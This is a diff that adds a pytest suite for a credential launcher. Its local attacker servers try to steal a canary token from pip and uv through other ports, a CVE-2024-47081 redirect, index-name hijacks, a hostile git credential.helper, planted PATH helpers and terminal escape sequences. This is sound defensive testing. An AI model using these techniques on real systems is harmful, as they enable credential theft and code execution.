@@ -1,0 +1,265 @@
+"""Ways around the place that a credential belongs to: another port or scheme of its host, redirects, names that are only the same.
+
+Each attack is shown to succeed with the credential handed over in a usual way, and to get nothing through the launcher.
+"""
+
+from __future__ import annotations
+
+import os
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from shim.demo.server import PrivateIndex
+from tests.support import toolchains
+from tests.support.attacker import Attacker
+from tests.support.world import CANARY, USER, World
+
+#: Releases in which requests takes the host of a redirect's user name for the server's (CVE-2024-47081).
+TRICKED = "23.2.1"
+
+
+@pytest.fixture
+def evil() -> Iterator[Attacker]:
+    with Attacker() as attacker:
+        yield attacker
+
+
+def configure(world: World, index: PrivateIndex, *lines: str) -> str:
+    url = f"http://{index.netloc}/simple/"
+    settings = [f'url = "{url}"', f'username = "{USER}"', *(lines or ('env = { password = "CORP_TOKEN" }',))]
+    world.configure("[[index]]\nname = 'corp'\n" + "\n".join(settings) + "\n")
+    world.environ["CORP_TOKEN"] = CANARY
+    return url
+
+
+def as_netrc(world: World, host: str = "127.0.0.1") -> dict[str, str]:
+    netrc = world.folder / "config" / "netrc"
+    netrc.write_text(f"machine {host} login {USER} password {CANARY}\n")
+    netrc.chmod(0o600)
+    return {"NETRC": str(netrc)}
+
+
+@pytest.mark.parametrize("door", ["direct URL", "find-links", "requirement", "extra index"])
+@pytest.mark.parametrize("version", [TRICKED, "newest"])
+def test_another_port_of_the_host_gets_nothing_from_pip(version: str, door: str, world: World, index: PrivateIndex, evil: Attacker) -> None:
+    world.use(toolchains.pip(version))
+    there = f"http://127.0.0.1:{evil.port}/x/"
+    (world.cwd / "requirements.txt").write_text(f"corp-evil @ {there}corp_evil-1-py3-none-any.whl\n")
+    words = {
+        "direct URL": [f"{there}corp_evil-1-py3-none-any.whl"],
+        "find-links": ["--find-links", there],
+        "requirement": ["-r", "requirements.txt"],
+        "extra index": ["--extra-index-url", there],
+    }[door]
+    url = f"http://{index.netloc}/simple/"
+    command = ["pip", "install", "--target", world.folder / "out", "-i", url, "corp-lib", *words]
+    world.run(*command, bare=True, **as_netrc(world))
+    assert evil.has_secret
+    evil.loot.clear()
+    configure(world, index)
+    world.run(*command)
+
+    assert evil.asked
+    assert evil.loot == []
+
+
+@pytest.mark.parametrize("version", ["0.9.30", "newest"])
+def test_another_port_of_the_host_gets_nothing_from_uv(version: str, world: World, index: PrivateIndex, evil: Attacker) -> None:
+    world.use(toolchains.uv(version))
+    url = f"http://{index.netloc}/simple/"
+    command = [
+        "uv",
+        "pip",
+        "install",
+        "--target",
+        world.folder / "out",
+        "-i",
+        url,
+        "corp-lib",
+        f"x @ http://127.0.0.1:{evil.port}/x-1-py3-none-any.whl",
+    ]
+    world.run(*command, bare=True, **as_netrc(world))
+    assert evil.has_secret
+    evil.loot.clear()
+    configure(world, index)
+    world.run(*command)
+
+    assert evil.asked
+    assert evil.loot == []
+
+
+@pytest.mark.parametrize("version", [TRICKED, "newest"])
+def test_a_redirect_that_bears_our_host_as_user_name_gets_nothing(version: str, world: World, index: PrivateIndex, evil: Attacker) -> None:
+    """CVE-2024-47081: `http://127.0.0.1:@localhost:PORT/` is localhost's, and an old requests looks up 127.0.0.1."""
+    world.use(toolchains.pip(version))
+    with Attacker(lambda path: f"http://127.0.0.1:@localhost:{evil.port}{path}") as redirector:
+        url = f"http://{index.netloc}/simple/"
+        extra = f"http://localhost:{redirector.port}/simple/"
+        command = ["pip", "install", "--target", world.folder / "out", "-i", url, "--extra-index-url", extra, "corp-lib"]
+        world.run(*command, bare=True, **as_netrc(world))
+        assert evil.has_secret == (version == TRICKED)
+        evil.loot.clear()
+        configure(world, index)
+        result = world.run(*command)
+
+    assert result.returncode == 0, result.stderr
+    assert evil.asked
+    assert evil.loot == []
+
+
+@pytest.mark.parametrize("where", ["uv.toml", "pyproject.toml", "a dependency"])
+def test_an_index_that_only_bears_the_name_gets_nothing(where: str, world: World, index: PrivateIndex, evil: Attacker) -> None:
+    """uv binds UV_INDEX_CORP_PASSWORD to a name, which any project can give to its own server."""
+    world.use(toolchains.uv())
+    url = f"http://{index.netloc}/simple/"
+    head = '[project]\nname = "p"\nversion = "1"\nrequires-python = ">=3.11"\n'
+    wanting = 'dependencies = ["corp-evil"]\n'
+    theirs = f'name = "corp"\nurl = "http://localhost:{evil.port}/simple/"\n'
+    pin = '[tool.uv.sources]\ncorp-evil = { index = "corp" }\n'
+    main = world.cwd / "pyproject.toml"
+    if where == "uv.toml":
+        main.write_text(head + wanting)
+        (world.cwd / "uv.toml").write_text(f"[[index]]\n{theirs}")
+    elif where == "pyproject.toml":
+        main.write_text(f"{head}{wanting}{pin}[[tool.uv.index]]\n{theirs}")
+    else:
+        (world.cwd / "dep").mkdir()
+        (world.cwd / "dep" / "pyproject.toml").write_text(
+            f"{head.replace(chr(34) + 'p' + chr(34), chr(34) + 'dep' + chr(34))}{wanting}{pin}[[tool.uv.index]]\n{theirs}"
+        )
+        main.write_text(
+            f'{head}dependencies = ["dep"]\n[tool.uv.sources]\ndep = {{ path = "dep" }}\n[[tool.uv.index]]\nname = "corp"\nurl = "{url}"\n'
+        )
+    world.run("uv", "lock", bare=True, UV_INDEX_CORP_USERNAME=USER, UV_INDEX_CORP_PASSWORD=CANARY)
+    assert evil.has_secret
+    evil.loot.clear()
+    configure(world, index)
+    world.run("uv", "lock")
+
+    assert evil.asked
+    assert evil.loot == []
+
+
+def test_a_pip_conf_section_or_project_index_of_our_name_selects_nothing(world: World, index: PrivateIndex, evil: Attacker) -> None:
+    """pip has no names; what a requirements file calls our host by another scheme is another place."""
+    world.use(toolchains.pip("newest"))
+    configure(world, index)
+    (world.cwd / "requirements.txt").write_text(f"--index-url http://{USER}@127.0.0.1:{evil.port}/simple/\ncorp-lib\n")
+    world.run("pip", "install", "--target", world.folder / "out", "-r", "requirements.txt")
+
+    assert evil.asked
+    assert evil.loot == []
+
+
+def hostile_repository(world: World) -> Path:
+    """Make the working directory a repository whose configuration runs a program when git is asked for a credential."""
+    subprocess.run(["git", "init", "-q", str(world.cwd)], check=True)
+    helper = f"!touch {world.folder}/pwned; echo username=x; echo password=x"
+    subprocess.run(["git", "-C", str(world.cwd), "config", "credential.helper", helper], check=True)
+    return world.folder / "pwned"
+
+
+def test_git_asked_for_a_secret_obeys_no_repository(world: World, index: PrivateIndex) -> None:
+    world.use(toolchains.pip("newest"))
+    pwned = hostile_repository(world)
+    script = "printf 'protocol=https\\nhost=corp.example\\n\\n' | git credential fill"
+    world.run("sh", "-c", script)
+    assert pwned.exists()
+    pwned.unlink()
+    configure(
+        world,
+        index,
+        f"command = {{ argv = ['sh', '-c', '''{script} >/dev/null 2>&1; pwd >{world.folder}/where; env >{world.folder}/environment; echo $TOKEN''' ] }}",
+    )
+    result = world.run(
+        *("pip", "install", "--target", world.folder / "out", "-i", f"http://{index.netloc}/simple/", "corp-lib"),
+        TOKEN=CANARY, GIT_DIR=str(world.cwd / ".git"), GIT_CONFIG_COUNT="0",
+    )  # fmt: skip
+    environment = (world.folder / "environment").read_text()
+    (world.folder / "environment").unlink()
+
+    assert result.returncode == 0, result.stderr
+    assert not pwned.exists()
+    assert (world.folder / "where").read_text() == "/\n"
+    ours = {"GIT_TERMINAL_PROMPT", "GIT_ASKPASS"}  # so that git asks nobody by itself
+    assert {line.partition("=")[0] for line in environment.splitlines() if line.startswith("GIT_")} <= ours
+
+
+@pytest.mark.parametrize("folder", ["relative", "writable by everybody"])
+def test_a_helper_is_not_taken_from_an_unsafe_folder(folder: str, world: World, index: PrivateIndex) -> None:
+    world.use(toolchains.pip("newest"))
+    planted = world.cwd / "bin"
+    planted.mkdir()
+    (planted / "corp-token").write_text(f"#!/bin/sh\ntouch {world.folder}/pwned\necho {CANARY[::-1]}\n")
+    (planted / "corp-token").chmod(0o755)
+    planted.chmod(0o777 if folder == "writable by everybody" else 0o755)
+    entry = "bin" if folder == "relative" else str(planted)
+    own = world.folder / "own"
+    own.mkdir()
+    (own / "corp-token").write_text("#!/bin/sh\necho $TOKEN\n")
+    (own / "corp-token").chmod(0o755)
+    path = world.environ["PATH"].replace(":", f":{entry}:", 1) + f":{own}"
+    assert world.run("sh", "-c", "corp-token", PATH=path).stdout == CANARY[::-1] + "\n"
+    (world.folder / "pwned").unlink()
+    configure(world, index, 'command = { argv = ["corp-token"] }')
+    result = world.run(
+        "pip", "install", "--target", world.folder / "out", "-i", f"http://{index.netloc}/simple/", "corp-lib", PATH=path, TOKEN=CANARY
+    )
+
+    assert result.returncode == 0, result.stderr
+    assert not (world.folder / "pwned").exists()
+
+
+@pytest.mark.parametrize("variables", [{"HOME": ""}, {"HOME": "."}, {"XDG_CONFIG_HOME": "."}], ids=str)
+def test_a_folder_of_the_project_never_configures_us(variables: dict[str, str], world: World, index: PrivateIndex) -> None:
+    """With a relative or missing HOME, `~/.config` is a folder of whoever made the project."""
+    world.use(toolchains.pip("newest"))
+    text = f'[[index]]\nname = "corp"\nurl = "http://{index.netloc}/simple/"\ncommand = {{ argv = ["touch", "{world.folder}/pwned"] }}\n'
+    for folder in ("~/.config/shim", ".config/shim", "shim"):
+        (world.cwd / folder).mkdir(parents=True)
+        (world.cwd / folder / "config.toml").write_text(text)
+    if "XDG_CONFIG_HOME" not in variables:
+        del world.environ["XDG_CONFIG_HOME"]
+    result = world.run("pip", "install", "--target", world.folder / "out", "-i", f"http://{index.netloc}/simple/", "corp-lib", **variables)
+
+    assert index.requests, result.stderr
+    assert not (world.folder / "pwned").exists()
+    assert sorted(path.name for path in world.cwd.iterdir()) == [".config", "shim", "~"]
+
+
+@pytest.mark.parametrize("mode", [0o666, 0o606])
+def test_a_configuration_that_everybody_can_write_is_refused(mode: int, world: World, index: PrivateIndex) -> None:
+    world.use(toolchains.pip("newest"))
+    url = configure(world, index, f'command = {{ argv = ["touch", "{world.folder}/pwned"] }}')
+    world.config.chmod(mode)
+    result = world.run("pip", "install", "--target", world.folder / "out", "-i", url, "corp-lib")
+
+    assert result.returncode == 78
+    assert not (world.folder / "pwned").exists()
+
+
+def test_the_users_private_group_may_write_a_configuration(world: World, index: PrivateIndex) -> None:
+    world.use(toolchains.pip("newest"))
+    url = configure(world, index)
+    os.chown(world.config, os.geteuid(), os.geteuid())
+    world.config.chmod(0o664)
+
+    assert world.run("pip", "install", "--target", world.folder / "out", "-i", url, "corp-lib").returncode == 0
+
+
+def test_neither_a_server_nor_a_project_writes_to_the_terminal(world: World, index: PrivateIndex) -> None:
+    world.use(toolchains.pip("newest"))
+    with Attacker(lambda _: "http://127.0.0.1:9/\x1b[2J\x1b]0;pwned\x07") as server:
+        url = f"http://127.0.0.1:{server.port}/simple/"
+        world.configure(f'[[index]]\nname = "corp"\nurl = "{url}"\nusername = "{USER}"\nenv = {{ password = "CORP_TOKEN" }}\n')
+        project = world.cwd / "\x1b[31mevil"
+        project.mkdir()
+        (project / "requirements.txt").write_text(f"--index-url {url}\n--extra-index-url http://{index.netloc}/simple/\ncorp-lib\n")
+        result = world.run("pip", "install", "-r", project / "requirements.txt", CORP_TOKEN=CANARY, SHIM_DEBUG="1")
+
+    assert result.returncode == 77
+    assert "\x1b" not in result.stderr
+    assert "\x07" not in result.stderr
